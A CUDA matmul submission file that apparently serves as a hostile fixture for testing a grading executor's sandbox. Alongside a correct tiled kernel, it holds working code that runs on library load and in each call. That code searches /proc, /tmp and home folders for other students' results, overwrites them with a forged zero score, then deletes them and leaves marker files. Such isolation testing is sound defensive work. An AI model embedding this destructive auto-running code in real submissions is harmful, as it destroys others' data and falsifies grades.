// Neighbour for check_neighbours.sh (issue 32, the executor's trust boundary): the correct tiled
// matmul (matmul/correct_tiled.cu) with reduction/writes_into_neighbours.cu's tampering, when its
// library loads and in its calls (one sweep a second at most): in every student folder it can reach
// from its library's path (<out>/<student>/lib/libsubmission.so) but its own -- so the correct
// student's among the neighbours, and the one graded alone beside the batch -- it overwrites,
// renames and unlinks results.json, summary.json, report.md, traits.json, build.json, compile.log,
// run/units/* and lib/libsubmission.so, and class.csv and rubric.json beside them; in every folder it
// walks (those, the suite's build and repository found from /proc/self/exe, its ancestors'
// /proc/<pid>/exe, /proc/self/maps and its library's path, /tmp, /dev/shm, $HOME, $TMPDIR, the home of
// the out folder's owner) it creates a file named KCONFORM_TAMPERED; its own scratch folder (its
// working directory in the executor) it leaves alone. Its entry points run in the executor (uid
// 65534, Landlock: it writes only its scratch folder), so all of it is refused. check_neighbours.sh
// requires the correct student's results.json, summary.json and report.md to read the same alone and
// among (seconds aside) and no KCONFORM_TAMPERED under the out folder, the suite's build, the
// repository, /tmp or /dev/shm. Its own grade is not checked (it is a neighbour); it should pass, 100.
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

#include "kconform_matmul_submission.h"

template <int TILE>
__global__ void tiled(const float* a, const float* b, float* c, int m, int n, int k) {
  __shared__ float as[TILE][TILE];
  __shared__ float bs[TILE][TILE];
  const int row = blockIdx.y * TILE + threadIdx.y, col = blockIdx.x * TILE + threadIdx.x;
  float sum = 0.0f;
  for (int t = 0; t < (k + TILE - 1) / TILE; ++t) {
    const int ac = t * TILE + threadIdx.x, br = t * TILE + threadIdx.y;
    as[threadIdx.y][threadIdx.x] = row < m && ac < k ? a[static_cast<size_t>(row) * k + ac] : 0.0f;
    bs[threadIdx.y][threadIdx.x] = br < k && col < n ? b[static_cast<size_t>(br) * n + col] : 0.0f;
    __syncthreads();
    for (int j = 0; j < TILE; ++j) sum += as[threadIdx.y][j] * bs[j][threadIdx.x];
    __syncthreads();
  }
  if (row < m && col < n) c[static_cast<size_t>(row) * n + col] = sum;
}

namespace {

// ---- the tampering (the same in reduction/writes_into_neighbours.cu: a submission is one file) ----
struct tamperer {
  std::string scratch, own_student;
  std::set<std::string> visited;

  static std::string parent(const std::string& p) {
    const auto slash = p.find_last_of('/');
    return slash == std::string::npos || slash == 0 ? "/" : p.substr(0, slash);
  }
  static std::string real(const std::string& p) {
    char resolved[PATH_MAX];
    return ::realpath(p.c_str(), resolved) != nullptr ? resolved : "";
  }
  static bool exists(const std::string& p) { return ::access(p.c_str(), F_OK) == 0; }
  static bool under(const std::string& p, const std::string& root) {
    return !root.empty() && (p == root || p.rfind(root == "/" ? root : root + "/", 0) == 0);
  }

  void mark(const std::string& dir) {
    const int flags = O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC | O_NOFOLLOW;
    const int fd = ::open((dir + "/KCONFORM_TAMPERED").c_str(), flags, 0644);
    if (fd < 0) return;
    const char line[] = "writes_into_neighbours was here\n";
    (void)!::write(fd, line, sizeof line - 1);
    ::close(fd);
  }
  // Overwritten, renamed, unlinked: each tried, whatever the one before did.
  static void wreck(const std::string& file) {
    const int fd = ::open(file.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC | O_NOFOLLOW);
    if (fd >= 0) {
      const char forged[] = "{\"score\": 0, \"verdict\": \"tampered\"}\n";
      (void)!::write(fd, forged, sizeof forged - 1);
      ::close(fd);
    }
    if (::rename(file.c_str(), (file + ".tampered").c_str()) == 0) ::unlink((file + ".tampered").c_str());
    else ::unlink(file.c_str());
  }
  void wreck_student(const std::string& dir) {
    for (const char* name : {"results.json", "summary.json", "report.md", "traits.json", "build.json", "compile.log",
                             "lib/libsubmission.so", "lib/submission.o"})
      wreck(dir + "/" + name);
    if (DIR* d = ::opendir((dir + "/run/units").c_str())) {
      while (const dirent* e = ::readdir(d))
        if (e->d_name[0] != '.') wreck(dir + "/run/units/" + e->d_name);
      ::closedir(d);
    }
    for (const char* name : {"class.csv", "rubric.json"}) wreck(parent(dir) + "/" + name);
  }
  // Markers in every folder down to `depth`; with `grades`, the student folders met are wrecked.
  void walk(const std::string& dir, int depth, bool grades) {
    if (dir.empty() || depth < 0 || under(dir, scratch) || !visited.insert(dir).second) return;
    mark(dir);
    if (grades && dir != own_student && (exists(dir + "/build.json") || exists(dir + "/traits.json"))) wreck_student(dir);
    DIR* d = ::opendir(dir.c_str());
    if (d == nullptr) return;
    while (const dirent* e = ::readdir(d)) {
      const std::string name = e->d_name, path = (dir == "/" ? "" : dir) + "/" + name;
      struct stat st;
      if (name != "." && name != ".." && ::lstat(path.c_str(), &st) == 0 && S_ISDIR(st.st_mode))
        walk(path, depth - 1, grades);
    }
    ::closedir(d);
  }
  // The suite's build above a path (the folder holding CMakeCache.txt), and the repository above it.
  void suite_above(std::string path) {
    for (path = parent(path); path != "/"; path = parent(path))
      if (exists(path + "/CMakeCache.txt")) {
        walk(path, 2, false);
        for (std::string up = parent(path); up != "/"; up = parent(up))
          if (exists(up + "/.git") || exists(up + "/scripts/grade.sh")) {
            walk(up, 1, false);
            break;
          }
        return;
      }
  }

  void sweep() {
    visited.clear();
    Dl_info info;
    std::string library;
    if (::dladdr(reinterpret_cast<const void*>(&tiled<16>), &info) != 0 && info.dli_fname != nullptr)
      library = real(info.dli_fname);
    own_student = library.empty() ? "" : parent(parent(library));
    char cwd[PATH_MAX];
    scratch = ::getcwd(cwd, sizeof cwd) != nullptr ? real(cwd) : "";
    if (scratch == "/" || under(own_student, scratch)) scratch.clear();  // that working folder is no scratch of its own
    if (!own_student.empty()) {
      walk(own_student, 3, true);  // its own folder: markers only (wreck_student skips it)
      std::string top = parent(own_student);
      for (int up = 0; up < 2 && top != "/"; ++up) top = parent(top);
      walk(top, 5, true);
      suite_above(library);
    }
    suite_above(real("/proc/self/exe"));
    pid_t pid = ::getppid();
    for (int level = 0; pid > 1 && level < 6; ++level) {
      const std::string proc = "/proc/" + std::to_string(pid);
      suite_above(real(proc + "/exe"));
      char stat_line[512] = {};
      const int fd = ::open((proc + "/stat").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) break;
      (void)!::read(fd, stat_line, sizeof stat_line - 1);
      ::close(fd);
      const char* close_paren = std::strrchr(stat_line, ')');
      if (close_paren == nullptr) break;
      pid = static_cast<pid_t>(std::atol(close_paren + 4));
    }
    if (FILE* maps = std::fopen("/proc/self/maps", "re")) {
      std::set<std::string> folders;
      char line[4096];
      while (std::fgets(line, sizeof line, maps) != nullptr)
        if (const char* path = std::strchr(line, '/')) folders.insert(parent(std::string(path, std::strcspn(path, "\n"))));
      std::fclose(maps);
      for (const std::string& folder : folders) suite_above(folder + "/x");
    }
    std::set<std::string> shared = {"/tmp", "/dev/shm"};
    for (const char* variable : {"HOME", "TMPDIR"})
      if (const char* value = std::getenv(variable); value != nullptr && *value != '\0') shared.insert(value);
    struct stat st;
    if (!own_student.empty() && ::stat(parent(own_student).c_str(), &st) == 0)
      if (const passwd* owner = ::getpwuid(st.st_uid); owner != nullptr && owner->pw_dir != nullptr)
        shared.insert(owner->pw_dir);
    for (const std::string& folder : shared) walk(real(folder), 1, false);
  }

  void sweep_at_most_once_a_second() {
    static auto last = std::chrono::steady_clock::time_point{};
    const auto now = std::chrono::steady_clock::now();
    if (last != std::chrono::steady_clock::time_point{} && now - last < std::chrono::seconds(1)) return;
    last = now;
    sweep();
  }
};

tamperer& the_tamperer() {
  static tamperer* t = new tamperer;  // never destroyed: a call may come during the process's exit
  return *t;
}

struct at_load {
  at_load() { the_tamperer().sweep_at_most_once_a_second(); }
} const tampered_at_load;

}  // namespace

kc_matmul_traits kc_matmul_submission_traits(void) {
  kc_matmul_traits t = {};
  t.abi = KC_SUBMISSION_ABI;
  t.block_dims = 2;
  t.configs[0] = {16, 16};
  t.configs[1] = {8, 8};
  t.configs[2] = {32, 32};
  return t;
}

const char* kc_matmul(const float* a, const float* b, float* c, int m, int n, int k, int block, int tile_width,
                      cudaStream_t stream) {
  if (tile_width != block) return "TILE_WIDTH must equal the block side";
  the_tamperer().sweep_at_most_once_a_second();
  const dim3 threads(block, block), blocks((n + block - 1) / block, (m + block - 1) / block);
  switch (block) {
    case 8: tiled<8><<<blocks, threads, 0, stream>>>(a, b, c, m, n, k); break;
    case 16: tiled<16><<<blocks, threads, 0, stream>>>(a, b, c, m, n, k); break;
    case 32: tiled<32><<<blocks, threads, 0, stream>>>(a, b, c, m, n, k); break;
    default: return "block must be 8, 16 or 32";
  }
  return nullptr;
}
